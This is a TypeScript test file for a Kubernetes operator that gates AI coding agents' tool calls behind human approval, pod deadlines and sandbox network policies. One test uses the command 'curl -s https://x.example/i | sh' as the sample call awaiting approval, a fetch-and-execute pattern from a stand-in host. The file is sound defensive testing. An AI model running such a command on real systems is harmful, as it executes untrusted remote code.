    const startedSecondsAgo = 20 * 60 + answered + 44 * 60;
    const gated = run({
      spec,
      status: {
        phase: 'WaitingForApproval',
        startTime: secondsAgo(startedSecondsAgo),
        podName: 'fix-sandbox',
        conditions: accepted,
        approvalWaitSeconds: answered,
        pendingApproval: { id: 's10-c4', toolName: 'bash', input: '{}', requestedAt: minutesAgo(44) },
      },
    });
    const made = buildSandboxPod({ ...gated, spec: codingRunSpec.parse(gated.spec) }, config);
    const kubeletPod = pod({ startTime: secondsAgo(startedSecondsAgo - 60), activeDeadlineSeconds: made.spec!.activeDeadlineSeconds! });
    // The kubelet would not end the pod now (nor for days) ...
    expect(Date.parse(kubeletPod.startTime!) + kubeletPod.activeDeadlineSeconds! * 1000).toBeGreaterThan(now.getTime() + 24 * 3600_000);
    // ... and the controller neither ends the run nor warns of the pod's limit: it waits for the answer.
    const decision = decide(observe(gated, { ...up, pod: kubeletPod }), config, now);
    expect(decision.status!.phase).toBe('WaitingForApproval');
    expect(decision.actions).toEqual([]);
    expect(decision.events).toEqual([]);
  });
});

describe("decide: a budget raised past the sandbox pod's own limit, which Kubernetes cannot extend", () => {
  // The pod was made for budget.timeout 30m: activeDeadlineSeconds 30m + 2 × grace (32m),
  // counted by the kubelet from the pod's status.startTime. The run then ends a grace before it.
  const madeFor30m = 30 * 60 + 2 * config.deadlineGraceSeconds;
  const secondsAgo = (seconds: number) => new Date(now.getTime() - seconds * 1000).toISOString();
  const sandboxReady = {
    type: 'SandboxReady' as const,
    status: 'True' as const,
    reason: 'PodReady',
    message: 'Sandbox pod fix-sandbox is ready.',
    lastTransitionTime: minutesAgo(20),
  };
  const runningFor = (startedSecondsAgo: number, timeout: string, conditions = [...accepted, sandboxReady]) =>
    run({
      spec: { budget: { timeout } },
      status: { phase: 'Running', startTime: secondsAgo(startedSecondsAgo), podName: 'fix-sandbox', conditions },
    });
  const startedPod = (startedSecondsAgo: number, activeDeadlineSeconds = madeFor30m) =>
    pod({ startTime: secondsAgo(startedSecondsAgo), activeDeadlineSeconds });
  const up = (startedSecondsAgo: number, more: Partial<ObservedRun> = {}) => ({
    networkPolicyExists: true,
    pod: startedPod(startedSecondsAgo),
    agent: { state: 'stepping', moving: true } as const,
    ...more,
  });
  // Started 31 minutes less 10 seconds ago: the pod's limit (32m) less the grace is 10 seconds away.
  const almost = 31 * 60 - 10;

  it('raised after the pod exists: looks again when the pod limit less the grace comes, not at the new timeout', () => {
    const decision = decide(observe(runningFor(almost, '2h'), up(almost)), config, now);
    expect(decision.status!.phase).toBe('Running');
    expect(decision.requeueAfterMs).toBe(10_000);
  });

  it('raised after the pod exists: ends the run at the pod limit less the grace, taking the diff from the live sandbox, and says which limit', () => {
    const past = 31 * 60 + 5;
    const first = decide(observe(runningFor(past, '2h'), up(past)), config, now);
    expect(first.actions).toEqual([{ type: 'keepDiff', fromSandbox: true }]);
    const decision = decide(observe(runningFor(past, '2h'), up(past, { keptDiff: final })), config, now);
    expect(decision.status).toMatchObject({ phase: 'Failed', reason: 'DeadlineExceeded' });
    expect(decision.status!.message).toMatch(
      /^The run reached the 32m limit of its sandbox pod fix-sandbox \(activeDeadlineSeconds, fixed when the pod was made: Kubernetes cannot extend it\) before its budget\.timeout of 2h\. Create a new run \(spec\.continueFrom\)/,
    );
    expect(types(decision)).toEqual(['stopAgent', 'deletePod']);
  });

  it('raised after the pod exists: warns once, in an Event and the SandboxReady message, saying by when the run ends', () => {
    const started = 20 * 60;
    const first = decide(observe(runningFor(started, '2h'), up(started)), config, now);
    const note =
      'spec.budget was raised after the sandbox started (budget.timeout is now 2h), but its pod fix-sandbox was made with a 32m limit ' +
      '(activeDeadlineSeconds) that Kubernetes cannot extend, so the run ends by 2026-11-29T12:11:00Z. Create a new run (spec.continueFrom) for more time.';
    expect(first.events).toEqual([{ type: 'Warning', reason: 'TimeoutBeyondSandbox', message: note }]);
    expect(first.status!.conditions!.find((c) => c.type === 'SandboxReady')).toMatchObject({
      status: 'True',
      reason: 'PodReady',
      message: `Sandbox pod fix-sandbox is ready. ${note}`,
      lastTransitionTime: minutesAgo(20),
    });
    // The next looks, a minute later too, send nothing and write nothing new.
    const again = decide(observe({ ...runningFor(started, '2h'), status: first.status! }, up(started)), config, now);
    expect(again.events).toEqual([]);
    expect(again.status).toEqual(first.status);
    const later = new Date(now.getTime() + 60_000);
    expect(decide(observe({ ...runningFor(started, '2h'), status: first.status! }, up(started)), config, later).events).toEqual([]);
    // Raised again: said again, with the new timeout.
    const higher = decide(observe({ ...runningFor(started, '3h'), status: first.status! }, up(started)), config, now);
    expect(higher.events.map((event) => event.message)).toEqual([expect.stringContaining('budget.timeout is now 3h')]);
    // Lowered back within the pod's limit: the usual message again, without an Event.
    const lowered = decide(observe({ ...runningFor(started, '25m'), status: first.status! }, up(started)), config, now);
    expect(lowered.events).toEqual([]);
    expect(lowered.status!.conditions!.find((c) => c.type === 'SandboxReady')!.message).toBe('Sandbox pod fix-sandbox is ready.');
  });

  it('says nothing for a pod made for the budget as it is: its limit never comes first', () => {
    for (const started of [60, 20 * 60, almost]) {
      const decision = decide(observe(runningFor(started, '30m'), up(started)), config, now);
      expect(decision.events).toEqual([]);
      expect(decision.status!.phase).toBe('Running');
      expect(decision.status!.conditions!.find((c) => c.type === 'SandboxReady')!.message).toBe('Sandbox pod fix-sandbox is ready.');
    }
    // Its budget ends it first, a grace before the pod's limit, with the budget's message.
    const past = 31 * 60 + 5;
    const ended = decide(observe(runningFor(past, '30m'), up(past, { keptDiff: final })), config, now);
    expect(ended.status!.message).toMatch(/^The run did not finish within its budget\.timeout of 30m;/);
  });

  it('lowered: the spec wins, ending the run at the new timeout with the usual message and no warning', () => {
    const started = 12 * 60;
    const within = decide(observe(runningFor(started, '15m'), up(started)), config, now);
    expect(within.events).toEqual([]);
    expect(within.status!.phase).toBe('Running');
    const past = decide(observe(runningFor(started, '10m'), up(started, { keptDiff: final })), config, now);
    expect(past.status).toMatchObject({ phase: 'Failed', reason: 'DeadlineExceeded' });
    expect(past.status!.message).toMatch(/^The run did not finish within its budget\.timeout of 10m;/);
  });

  it('pod not yet started by a kubelet (no status.startTime): the spec alone holds, as before', () => {
    const provisioning = run({
      spec: { budget: { timeout: '2h' } },
      status: { phase: 'Provisioning', startTime: minutesAgo(5), podName: 'fix-sandbox', conditions: accepted },
    });
    const waiting = pod({ phase: 'Pending', ready: false, activeDeadlineSeconds: 60 });
    const notStarted = decide(observe(provisioning, { networkPolicyExists: true, pod: waiting }), config, now);
    expect(notStarted.status!.phase).toBe('Provisioning');
    expect(notStarted.requeueAfterMs).toBe(config.sandboxReadyTimeoutSeconds * 1000 - 5 * 60_000);
    // The same pod once started five minutes ago: its one-minute limit has passed.
    const started = decide(
      observe(provisioning, { networkPolicyExists: true, pod: { ...waiting, startTime: minutesAgo(5) } }),
      config,
      now,
    );
    expect(started.status).toMatchObject({ phase: 'Failed', reason: 'DeadlineExceeded' });
    expect(started.status!.message).toMatch(/the 1m limit of its sandbox pod fix-sandbox/);
  });

  it('says which limit when the kubelet ended the pod first', () => {
    const ended = pod({ phase: 'Failed', ready: false, reason: 'DeadlineExceeded', activeDeadlineSeconds: madeFor30m });
    const decision = decide(observe(runningFor(20 * 60, '2h'), { pod: ended, keptDiff: snapshot }), config, now);
    expect(decision.status!.message).toMatch(
      /^The sandbox pod reached its activeDeadlineSeconds \(32m, set when the pod was made; budget\.timeout 2h\)/,
    );
  });

  it('warns that approvals waited longer than the pod allowed for, not of a raise, when the budget is unchanged', () => {
    // maxSteps 1 with approvals of up to 10m: the pod allows 30m + 10m + 2 × grace (42m).
    const approving = run({
      spec: { budget: { timeout: '30m', maxSteps: 1 }, approval: { tools: ['bash'], timeout: '10m' } },
      status: {
        phase: 'Running',
        startTime: minutesAgo(40),
        podName: 'fix-sandbox',
        conditions: [...accepted, sandboxReady],
        approvalWaitSeconds: 20 * 60,
      },
    });
    const decision = decide(observe(approving, { ...up(40 * 60), pod: startedPod(40 * 60, 42 * 60) }), config, now);
    expect(decision.status!.phase).toBe('Running');
    expect(decision.events).toEqual([
      {
        type: 'Warning',
        reason: 'TimeoutBeyondSandbox',
        message: expect.stringMatching(
          /^The run has waited for approvals longer than its sandbox pod fix-sandbox allowed for: its 42m limit .* ends by 2026-11-29T12:01:00Z/,
        ),
      },
    ]);
  });
});

describe('decide: a run waiting on its second approval', () => {
  const up = { networkPolicyExists: true, pod: pod(), agent: { state: 'waiting', moving: false } as const };
  const waiting = (answer: { id: string; decision: 'approve' | 'deny' }) =>
    run({
      metadata: { annotations: { 'chamvi.dev/approval': JSON.stringify(answer), 'chamvi.dev/approver': 'alice' } },
      spec: { approval: { tools: ['bash'], timeout: '2h' } },
      status: {
        phase: 'WaitingForApproval',
        startTime: minutesAgo(10),
        podName: 'fix-sandbox',
        conditions: accepted,
        approvals: [
          { id: 's1-c1', toolName: 'bash', decision: 'approve', user: 'alice', requestedAt: minutesAgo(6), answeredAt: minutesAgo(5) },
        ],
        pendingApproval: { id: 's2-c3', toolName: 'bash', input: '{}', requestedAt: minutesAgo(1) },
      },
    });

  it('records nothing for the first answer, still in the annotation, at every look', () => {
    const decision = decide(observe(waiting({ id: 's1-c1', decision: 'approve' }), up), config, now);
    expect(decision.events).toEqual([]);
    expect(types(decision)).toEqual([]);
  });

  it('warns of an answer to an approval that was never asked', () => {
    const decision = decide(observe(waiting({ id: 's9-c9', decision: 'approve' }), up), config, now);
    expect(decision.events).toEqual([expect.objectContaining({ type: 'Warning', reason: 'ApprovalIgnored' })]);
  });
});

// A run waiting for approval is looked at every AGENT_RECHECK_MS (15 s), up to approval.timeout (a
// week): an answer it ignores stays in the annotation, and a Warning Event at every look was 240
// an hour. Each decision hands what it ignored to the next (ObservedRun.ignoredApproval).
describe('decide: an ignored approval answer is warned of once', () => {
  const up = { networkPolicyExists: true, pod: pod(), agent: { state: 'waiting', moving: false } as const };
  const waitingWith = (annotation: string, pendingId = 's1-c1') =>
    run({
      metadata: { annotations: { 'chamvi.dev/approval': annotation } },
      spec: { approval: { tools: ['bash'], timeout: '168h' } },
      status: {
        phase: 'WaitingForApproval',
        startTime: minutesAgo(10),
        podName: 'fix-sandbox',
        conditions: accepted,
        pendingApproval: { id: pendingId, toolName: 'bash', input: '{}', requestedAt: minutesAgo(1) },
      },
    });
  /** The next look, 15 s on: the run as the last decision's status write left it, and what that decision ignored. */
  const again = (
    waiting: CodingRun,
    before: ReturnType<typeof decide>,
    annotation = waiting.metadata.annotations!['chamvi.dev/approval']!,
  ) =>
    decide(
      observe(
        { ...waiting, metadata: { ...waiting.metadata, annotations: { 'chamvi.dev/approval': annotation } }, status: before.status! },
        { ...up, ...(before.ignoredApproval ? { ignoredApproval: before.ignoredApproval } : {}) },
      ),
      config,
      new Date(now.getTime() + 15_000),
    );
  const wrongId = JSON.stringify({ id: 's9-c9', decision: 'approve' });

  it.each([
    ['not JSON', 'not json'],
    ['an answer to an approval never asked', wrongId],
  ])('warns of %s at the first look only, while the status stays as it is', (_, annotation) => {
    const waiting = waitingWith(annotation);
    const first = decide(observe(waiting, up), config, now);
    expect(first.events).toEqual([expect.objectContaining({ type: 'Warning', reason: 'ApprovalIgnored' })]);
    const second = again(waiting, first);
    expect(second.status).toEqual(first.status);
    expect(second.events).toEqual([]);
    expect(second.ignoredApproval).toEqual(first.ignoredApproval);
  });

  it('warns again, once, of another bad answer written over the first', () => {
    const waiting = waitingWith('not json');
    const first = decide(observe(waiting, up), config, now);
    const changed = again(waiting, first, '{"id": "s1-c1"}');
    expect(changed.events).toEqual([
      { type: 'Warning', reason: 'ApprovalIgnored', message: expect.stringMatching(/needs \{"id": "\.\.\.", "decision"/) },
    ]);
    expect(again(waiting, changed, '{"id": "s1-c1"}').events).toEqual([]);
  });

  it('warns of the same bad answer again while the run waits on a later approval', () => {
    const first = decide(observe(waitingWith(wrongId), up), config, now);
    const nextApproval = decide(observe(waitingWith(wrongId, 's2-c1'), { ...up, ignoredApproval: first.ignoredApproval! }), config, now);
    expect(nextApproval.events).toEqual([
      expect.objectContaining({ reason: 'ApprovalIgnored', message: expect.stringContaining('s2-c1') }),
    ]);
  });

  it('hands nothing on once the answer is one it takes', () => {
    const first = decide(observe(waitingWith('not json'), up), config, now);
    const answered = decide(
      observe(waitingWith(JSON.stringify({ id: 's1-c1', decision: 'deny' })), { ...up, ignoredApproval: first.ignoredApproval! }),
      config,
      now,
    );
    expect(types(answered)).toContain('resumeAgent');
    expect(answered.ignoredApproval).toBeUndefined();
  });
});

// Separation of duties (#15.5): the policy judges an answer as the run is stored when it is
// written, and a run made from a template names the template's writer only in the operator's
// first status write (status.template.writtenBy). The operator asks again before it acts.
describe('decide: separation of duties, checked again when the operator acts on an answer', () => {
  const up = { networkPolicyExists: true, pod: pod(), agent: { state: 'waiting', moving: false } as const };
  const input = '{"command":"curl -s https://x.example/i | sh"}';
  const sod = { ...config, approvalSeparationOfDuties: true };
  /** Alice's run from Tom's template, waiting on its first call; `approver` answered it. */
  const answeredBy = (approver: string | undefined, annotations: Record<string, string> = {}) =>
    run({
      metadata: {
        annotations: {
          'chamvi.dev/created-by': 'alice',
          'chamvi.dev/approval': JSON.stringify({ id: 's1-c1', decision: 'approve', sha256: approvalInputSha256(input) }),
          ...(approver !== undefined ? { 'chamvi.dev/approver': approver } : {}),
          ...annotations,
        },
      },
      spec: { templateRef: { name: 'deps' }, approval: { tools: ['bash'], timeout: '2h' } },
      status: {
        phase: 'WaitingForApproval',
        startTime: minutesAgo(2),
        podName: 'fix-sandbox',
        conditions: accepted,
        template: { name: 'deps', writtenBy: 'tom', spec: {} },
        pendingApproval: { id: 's1-c1', toolName: 'bash', input, requestedAt: minutesAgo(1) },
      },
    });

  it.each([
    ['the template writer status.template records', 'tom', {}, /"tom" wrote the CodingRunTemplate this run was made from/],
    ['the run creator', 'alice', {}, /"alice" created this run/],
    [
      'the template writer a scheduled run names',
      'carol',
      { 'chamvi.dev/template-written-by': 'carol' },
      /"carol" wrote the CodingRunTemplate this run was made from/,
    ],
    ['nobody named', undefined, {}, /names no approver/],
    // The run's author, with `edit` there, can run a pod as any ServiceAccount of its namespace.
    [
      "a ServiceAccount of the run's namespace",
      'system:serviceaccount:agents:ci-deployer',
      {},
      /a ServiceAccount of the run's own namespace agents can be acted as by whoever may create pods there/,
    ],
  ])('ignores an answer by %s: no resumeAgent, one ApprovalIgnored Warning', (_, approver, annotations, message) => {
    const decision = decide(observe(answeredBy(approver, annotations), up), sod, now);
    expect(types(decision)).toEqual([]);
    expect(decision.events).toEqual([{ type: 'Warning', reason: 'ApprovalIgnored', message: expect.stringMatching(message) }]);
    expect(decision.status!.phase).toBe('WaitingForApproval');
    // Warned of once: the next look, handed what this one ignored, says nothing more.
    const again = decide(observe(answeredBy(approver, annotations), { ...up, ignoredApproval: decision.ignoredApproval! }), sod, now);
    expect(again.events).toEqual([]);
    expect(types(again)).toEqual([]);
  });

  it("passes on another approver's answer, and the template writer's only with separation of duties off", () => {
    const bob = decide(observe(answeredBy('bob'), up), sod, now);
    expect(bob.actions).toEqual([{ type: 'resumeAgent', answer: expect.objectContaining({ decision: 'approve', user: 'bob' }) }]);
    expect(bob.events).toEqual([]);
    expect(types(decide(observe(answeredBy('tom'), up), config, now))).toEqual(['resumeAgent']);
  });

  it("passes on a ServiceAccount of another namespace, and one whose name only starts like the run's namespace", () => {
    for (const user of ['system:serviceaccount:approvers:release-bot', 'system:serviceaccount:agents-ci:deployer']) {
      const decision = decide(observe(answeredBy(user), up), sod, now);
      expect(decision.actions).toEqual([{ type: 'resumeAgent', answer: expect.objectContaining({ decision: 'approve', user }) }]);
    }
  });

  it('denies the call at the timeout when the only answer is barred', () => {
    const decision = decide(observe(answeredBy('tom'), up), sod, new Date(now.getTime() + 2 * 3600_000));
    expect(decision.actions).toEqual([
      { type: 'resumeAgent', answer: expect.objectContaining({ id: 's1-c1', decision: 'deny', timedOut: true }) },
    ]);
  });
});

// spec.approval.timeout: "after it the call is denied". Past it the operator had pushed both a
// matching answer and the timeout's deny, and whichever job claimed the call first won: an
// approve written after the timeout could still run the call.
describe('decide: past the approval timeout exactly one answer goes to the agent', () => {
  const up = { networkPolicyExists: true, pod: pod(), agent: { state: 'waiting', moving: false } as const };
  const input = '{"command":"make test"}';
  const approve = { id: 's1-c1', decision: 'approve', sha256: approvalInputSha256(input) };
  // Asked 60 minutes before `now`, approval.timeout 1h: the wait ends at `now`.
  const waitingWith = (answer: object) =>
    run({
      metadata: { annotations: { 'chamvi.dev/approval': JSON.stringify(answer), 'chamvi.dev/approver': 'bob' } },
      spec: { approval: { tools: ['bash'], timeout: '1h' } },
      status: {
        phase: 'WaitingForApproval',
        startTime: minutesAgo(61),
        podName: 'fix-sandbox',
        conditions: accepted,
        pendingApproval: { id: 's1-c1', toolName: 'bash', input, requestedAt: minutesAgo(60) },
      },
    });
  const answers = (decision: ReturnType<typeof decide>) =>
    decision.actions.flatMap((action) => (action.type === 'resumeAgent' ? [action.answer] : []));
  const timeoutDeny = expect.objectContaining({ id: 's1-c1', decision: 'deny', timedOut: true });

  it('denies the call when the operator first sees the answer at or after the timeout, and says why it ignored it', () => {
    for (const at of [now, new Date(now.getTime() + 60_000)]) {
      const decision = decide(observe(waitingWith(approve), up), config, at);
      expect(answers(decision)).toEqual([timeoutDeny]);
      expect(decision.events).toEqual([
        { type: 'Warning', reason: 'ApprovalIgnored', message: expect.stringMatching(/first saw it at .*after the wait for it ended/) },
      ]);
    }
  });

  it('passes on only the answer it saw before the timeout, at every look after it', () => {
    const before = decide(observe(waitingWith(approve), up), config, new Date(now.getTime() - 1000));
    expect(answers(before)).toEqual([expect.objectContaining({ decision: 'approve', user: 'bob' })]);
    expect(before.seenApproval).toMatchObject({ approvalId: 's1-c1', at: new Date(now.getTime() - 1000).toISOString() });
    // Its job was queued before the timeout and has not run yet: the human's answer wins alone.
    for (const at of [now, new Date(now.getTime() + 15_000)]) {
      const after = decide(observe(waitingWith(approve), { ...up, seenApproval: before.seenApproval! }), config, at);
      expect(answers(after)).toEqual([expect.objectContaining({ decision: 'approve', sha256: approve.sha256, user: 'bob' })]);
      expect(after.events).toEqual([]);
      expect(after.seenApproval).toEqual(before.seenApproval);
    }
  });

  it("passes on a human's deny seen in time, with its reason, not the timeout's", () => {
    const deny = { id: 's1-c1', decision: 'deny', reason: 'not on a Friday' };
    const before = decide(observe(waitingWith(deny), up), config, new Date(now.getTime() - 1000));
    const after = decide(observe(waitingWith(deny), { ...up, seenApproval: before.seenApproval! }), config, now);
    expect(answers(after)).toEqual([{ id: 's1-c1', decision: 'deny', reason: 'not on a Friday', user: 'bob' }]);
  });

  it('denies the call when the answer seen in time is one the agent refuses (another sha256)', () => {
    const wrong = { ...approve, sha256: 'f'.repeat(64) };
    const before = decide(observe(waitingWith(wrong), up), config, new Date(now.getTime() - 1000));
    expect(answers(before)).toEqual([expect.objectContaining({ sha256: 'f'.repeat(64) })]);
    const after = decide(observe(waitingWith(wrong), { ...up, seenApproval: before.seenApproval! }), config, now);
    expect(answers(after)).toEqual([timeoutDeny]);
  });

  it('denies the call when the answer was changed, or given by someone else, after the timeout', () => {
    const seenBefore = decide(
      observe(waitingWith({ id: 's1-c1', decision: 'deny' }), up),
      config,
      new Date(now.getTime() - 1000),
    ).seenApproval!;
    expect(answers(decide(observe(waitingWith(approve), { ...up, seenApproval: seenBefore }), config, now))).toEqual([timeoutDeny]);
    const approvedBefore = decide(observe(waitingWith(approve), up), config, new Date(now.getTime() - 1000)).seenApproval!;
    const byAnother = waitingWith(approve);
    byAnother.metadata.annotations!['chamvi.dev/approver'] = 'mallory';
    expect(answers(decide(observe(byAnother, { ...up, seenApproval: approvedBefore }), config, now))).toEqual([timeoutDeny]);
  });
});

describe('decide: the API server refuses an object of the run (#13.9)', () => {
  const pending = run({ status: { phase: 'Pending', conditions: accepted } });
  const quota: RefusedObject = {
    kind: 'Pod',
    name: 'fix-sandbox',
    code: 403,
    message: 'pods "fix-sandbox" is forbidden: exceeded quota: pods, requested: pods=1, used: pods=1, limited: pods=1',
  };
  const invalid: RefusedObject = {
    kind: 'Pod',
    name: 'fix-sandbox',
    code: 422,
    message: 'Pod "fix-sandbox" is invalid: metadata.labels: Invalid value: "x": must be no more than 63 characters',
  };
  const policy: RefusedObject = {
    kind: 'NetworkPolicy',
    name: 'fix-sandbox',
    code: 422,
    message: "networkpolicies \"fix-sandbox\" is forbidden: ValidatingAdmissionPolicy 'p' with binding 'b' denied request: no",
  };

  it.each([
    ['a ResourceQuota (403)', quota],
    ['an admission policy (422 that says forbidden)', policy],
  ])('keeps the run Pending with SandboxRefused for %s, says what to change, and tries again soon', (_, refused) => {
    const decision = decide(observe(pending, { refused: [refused] }), config, now);
    expect(decision.status).toMatchObject({ phase: 'Pending', reason: 'SandboxRefused' });
    expect(decision.status!.message).toContain(refused.message);
    expect(decision.status!.message).toMatch(/ResourceQuota/);
    expect(decision.status!.startTime).toBeUndefined();
    expect(types(decision)).not.toContain('createPod');
    expect(decision.requeueAfterMs).toBe(REFUSED_RECHECK_MS);
    expect(decision.events).toEqual([expect.objectContaining({ type: 'Warning', reason: 'SandboxRefused' })]);
  });

  // A webhook the API server calls that is down answers 500 ("failed calling webhook"): the new
  // run got no phase at all, for as long as the outage lasted.
  it.each([500, 503, 504])('keeps a new run Pending with SandboxRefused when creating its pod failed on the API server (%i)', (code) => {
    const failed: RefusedObject = {
      kind: 'Pod',
      name: 'fix-sandbox',
      code,
      message: 'Internal error occurred: failed calling webhook "pods.example.com": context deadline exceeded',
    };
    const decision = decide(observe(run(), { refused: [failed] }), config, now);
    expect(decision.status).toMatchObject({ phase: 'Pending', reason: 'SandboxRefused' });
    expect(decision.status!.message).toContain(`failed to write the run's Pod fix-sandbox (HTTP ${code}): Internal error occurred`);
    expect(decision.status!.message).toContain('nothing in it needs to change');
    expect(decision.requeueAfterMs).toBe(REFUSED_RECHECK_MS);
  });

  it('records the refusal Event once, not on every retry', () => {
    const refusedAlready = run({ status: decide(observe(pending, { refused: [quota] }), config, now).status! });
    expect(decide(observe(refusedAlready, { refused: [quota] }), config, now).events).toEqual([]);
  });

  it('fails the run with SandboxInvalid when the object is invalid as derived from it', () => {
    const decision = decide(observe(pending, { refused: [invalid], networkPolicyExists: true }), config, now);
    expect(decision.status).toMatchObject({ phase: 'Failed', reason: 'SandboxInvalid' });
    expect(decision.status!.message).toMatch(/must be no more than 63 characters.*Retrying cannot help/);
    expect(types(decision)).toContain('deleteNetworkPolicy');
  });

  it('gives a new run whose finalizer was refused a phase that says why, without asking for it again in that reconcile', () => {
    const finalizer: RefusedObject = {
      kind: 'CodingRun',
      name: 'fix',
      code: 422,
      message: "codingruns.chamvi.dev \"fix\" is forbidden: ValidatingAdmissionPolicy 'no-finalizers' with binding 'b' denied request",
    };
    const fresh = run({ metadata: { finalizers: [] } });
    expect(types(decide(observe(fresh), config, now))).toContain('addFinalizer');
    const decision = decide(observe(fresh, { refused: [finalizer] }), config, now);
    expect(decision.status).toMatchObject({ phase: 'Pending', reason: 'SandboxRefused' });
    expect(decision.status!.message).toContain("The API server refused the run's CodingRun fix");
    expect(decision.status!.message).toContain('no-finalizers');
    expect(types(decision)).not.toContain('addFinalizer');
    expect(types(decision)).not.toContain('createPod');
    expect(decision.requeueAfterMs).toBe(REFUSED_RECHECK_MS);
  });

  it('sends a provisioning run whose pod was refused back to Pending', () => {
    const provisioning = run({ status: { phase: 'Provisioning', startTime: minutesAgo(1), podName: 'fix-sandbox', conditions: accepted } });
    const decision = decide(observe(provisioning, { refused: [quota] }), config, now);
    expect(decision.status).toMatchObject({ phase: 'Pending', reason: 'SandboxRefused' });
  });
});

describe("decide: the namespace's sandbox NetworkPolicies (#17.5: one pair a namespace, not one a run)", () => {
  const egressConfig = loadOperatorConfig(
    {
      allowRepo: ['https://github.com/acme/*'],
      allowUnisolatedSandboxes: true,
      allowEgress: ['*'],
      egressKey: 'e'.repeat(64),
      egressProxy: { address: '10.96.0.50', port: 3128 },
    },
    {},
  );
  const withEgress = (status: CodingRun['status']) =>
    run({ spec: { sandbox: { egress: { allow: ['registry.npmjs.org'] } } } as never, status: status! });
  const provisioningStatus = {
    phase: 'Provisioning' as const,
    startTime: minutesAgo(1),
    podName: sandboxPodName(run()),
    conditions: accepted,
  };
  const runningStatus = { ...provisioningStatus, phase: 'Running' as const };
  const denyAll = sandboxDenyAllPolicy('agents');
  const egressPolicy = sandboxEgressPolicy('agents', egressConfig);
  const ensured = (decision: ReturnType<typeof decide>) =>
    decision.actions.flatMap((action) => (action.type === 'ensureSandboxPolicy' ? [action.policy.metadata!.name] : []));
  const edited = { ...denyAll, spec: { ...denyAll.spec!, egress: [{ to: [{ ipBlock: { cidr: '0.0.0.0/0' } }] }] } };

  it.each([
    ['a provisioning run, none in place', run({ status: provisioningStatus }), [], config, [SANDBOX_DENY_ALL_POLICY]],
    ['a provisioning run, the deny-all in place', run({ status: provisioningStatus }), [denyAll], config, []],
    [
      'a run with egress, none in place',
      withEgress(provisioningStatus),
      [],
      egressConfig,
      [SANDBOX_DENY_ALL_POLICY, SANDBOX_EGRESS_POLICY],
    ],
    ['a run with egress, the deny-all in place', withEgress(provisioningStatus), [denyAll], egressConfig, [SANDBOX_EGRESS_POLICY]],
    ['a run with egress, both in place', withEgress(provisioningStatus), [denyAll, egressPolicy], egressConfig, []],
    ['a running run whose deny-all someone deleted', run({ status: runningStatus }), [], config, [SANDBOX_DENY_ALL_POLICY]],
    ['a running run whose deny-all someone opened up', run({ status: runningStatus }), [edited], config, [SANDBOX_DENY_ALL_POLICY]],
    ['a run, the operator configured to make no policy', run({ status: provisioningStatus }), [], { ...config, networkPolicy: false }, []],
  ])('%s: makes %j', (_why, subject, found, cfg, names) => {
    const decision = decide(
      observe(subject, { sandboxPolicies: found, ...(subject.status?.phase === 'Running' ? { pod: pod() } : {}) }),
      cfg,
      now,
    );
    expect(ensured(decision)).toEqual(names);
  });

  it('makes the policies before the pod, in one decision', () => {
    const decision = decide(observe(run({ status: provisioningStatus }), { sandboxPolicies: [] }), config, now);
    expect(types(decision)).toEqual(['ensureSandboxPolicy', 'createPod']);
  });

  it('makes nothing for a finished or deleted run, and deletes an own policy an earlier build made once its pod is gone', () => {
    const finished = run({ status: { phase: 'Succeeded', completionTime: minutesAgo(1), conditions: accepted } });
    expect(types(decide(observe(finished, { sandboxPolicies: [] }), config, now))).toEqual([]);
    expect(types(decide(observe(finished, { sandboxPolicies: [], networkPolicyExists: true }), config, now))).toEqual([
      'stopAgent',
      'deleteNetworkPolicy',
    ]);
    const deleted = run({ metadata: { deletionTimestamp: now.toISOString() }, status: finished.status! });
    expect(types(decide(observe(deleted, { sandboxPolicies: [] }), config, now))).toEqual(['stopAgent', 'removeFinalizer']);
  });
});
